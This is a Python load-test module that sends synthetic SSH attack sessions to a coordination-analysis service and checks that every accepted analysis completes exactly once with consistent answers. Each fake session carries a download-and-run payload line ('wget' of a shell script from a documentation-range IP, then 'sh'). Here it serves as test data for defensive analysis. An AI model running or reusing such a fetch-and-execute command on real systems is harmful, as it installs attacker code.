"""load.py - clients that submit, remember every id that was accepted, and at the end ask what became of each: all completed, each
once, and equal requests with equal answers."""
import http.client
import json
import os
import random
import threading
import time
import uuid

from stack import eventually

KINDS = 5


def session(i, kind, rng):
    return {"source_ip": f"198.51.{kind}.{1 + i % 250}", "timestamp": f"2025-07-28T{rng.randrange(24):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d}Z",
            "payload": f"cd /tmp; wget http://203.0.113.{kind}/x.sh; sh x.sh {i % 7}", "target_port": 22, "protocol": "SSH"}


def body_of(kind, n, depth="minimal"):
    rng = random.Random(1000 * kind + n)
    return json.dumps({"attack_sessions": [session(i, kind, rng) for i in range(n)], "analysis_depth": depth, "label": f"kind-{kind}-{n}-{depth}"})


class Load:
    """Clients in threads until `stop`. Failures are refusals and broken connections: counted, and allowed unless a row says otherwise."""

    def __init__(self, stack, clients=4, sessions=12, depth="minimal", pause_s=0.0, keep=True, reads=False):
        self.stack, self.pause_s, self.keep, self.reads = stack, pause_s, keep, reads
        self.bodies = [body_of(kind, sessions, depth) for kind in range(KINDS)]
        self.accepted, self.refused, self.broken, self.read, self.what = [], 0, 0, 0, {}
        self.lock, self.ending = threading.Lock(), threading.Event()
        self.threads = [threading.Thread(target=self.work, args=(i,), daemon=True) for i in range(clients)]
        for thread in self.threads:
            thread.start()

    def work(self, number):
        rng, connection = random.Random(number), None
        while not self.ending.is_set():
            kind = rng.randrange(KINDS)
            try:
                connection = connection or http.client.HTTPConnection("127.0.0.1", self.stack.front, timeout=60)
                status, data = self.call(connection, "POST", "/analyze/coordination", self.bodies[kind])
                self.note(kind, status, data)
                if self.reads and status == 200:
                    self.note_read(*self.call(connection, "GET", "/analyze/" + json.loads(data)["analysis_id"]))
                if not self.keep or status >= 500:
                    connection.close()
                    connection = None
                    if status >= 500:
                        time.sleep(0.05)
            except (OSError, http.client.HTTPException) as error:
                with self.lock:
                    self.broken += 1
                    self.what[repr(error)[:120]] = self.what.get(repr(error)[:120], 0) + 1
                connection = None
                time.sleep(0.05)
            if self.pause_s:
                time.sleep(self.pause_s)

    def call(self, connection, method, path, body=None):
        headers = {"Authorization": f"Bearer {self.stack.key}"}
        if body is not None:
            headers.update({"Content-Type": "application/json", "Idempotency-Key": str(uuid.uuid4())})
        connection.request(method, path, body, headers)
        answer = connection.getresponse()
        return answer.status, answer.read()

    def note(self, kind, status, data):
        with self.lock:
            if status == 200:
                self.accepted.append((json.loads(data)["analysis_id"], kind))
            else:
                self.refused += 1
                self.what[f"POST {status}"] = self.what.get(f"POST {status}", 0) + 1

    def note_read(self, status, _):
        with self.lock:
            self.read += status == 200
            if status != 200:
                self.refused += 1
                self.what[f"GET {status}"] = self.what.get(f"GET {status}", 0) + 1

    def wait_accepted(self, n):
        eventually(lambda: len(self.accepted) >= n, f"{n} analyses accepted")

    def stop(self):
        self.ending.set()
        for thread in self.threads:
            thread.join(90)
            assert not thread.is_alive(), "a client hangs"
        return self


STABLE = ("status", "coordination_confidence", "evidence", "verdict", "campaigns", "session_count")


def check(load, deadline_s=None):
    """Every accepted analysis is completed, by exactly one finish; equal bodies have equal answers. Returns how many took several attempts."""
    stack, answers, again = load.stack, {}, 0
    deadline_s = deadline_s or int(os.environ.get("COORD_FAULTS_DEADLINE", "300"))
    assert load.accepted, "nothing was accepted: the row shows nothing"
    assert len({name for name, _ in load.accepted}) == len(load.accepted), "an id was given twice"
    for name, kind in load.accepted:
        answer = eventually(lambda n=name: done(stack, n), f"analysis {name} ends", deadline_s)
        assert answer["status"] == "completed", (name, answer)
        seen = json.dumps({key: answer.get(key) for key in STABLE}, sort_keys=True)
        assert answers.setdefault(kind, seen) == seen, f"two answers to one question: {answers[kind]} and {seen}"
    for name, _ in load.accepted:
        events = events_of(stack, name)
        assert events.count("completed") == 1, (name, events)
        again += events.count("processing") > 1
    return again


def done(stack, name):
    try:
        answer = stack.get("/analyze/" + name)
    except (OSError, http.client.HTTPException):
        return None
    except AssertionError as error:
        if ": 503" in str(error) or ": 502" in str(error) or ": 504" in str(error):
            return None
        raise
    return answer if answer["status"] in ("completed", "failed") else None


def events_of(stack, name):
    """The types of an ended analysis's events, in order: its stream ends by itself."""
    _, data = stack.ask(stack.front, "GET", f"/analyze/{name}/events")
    return [line[7:].strip() for line in data.decode().splitlines() if line.startswith("event: ")]
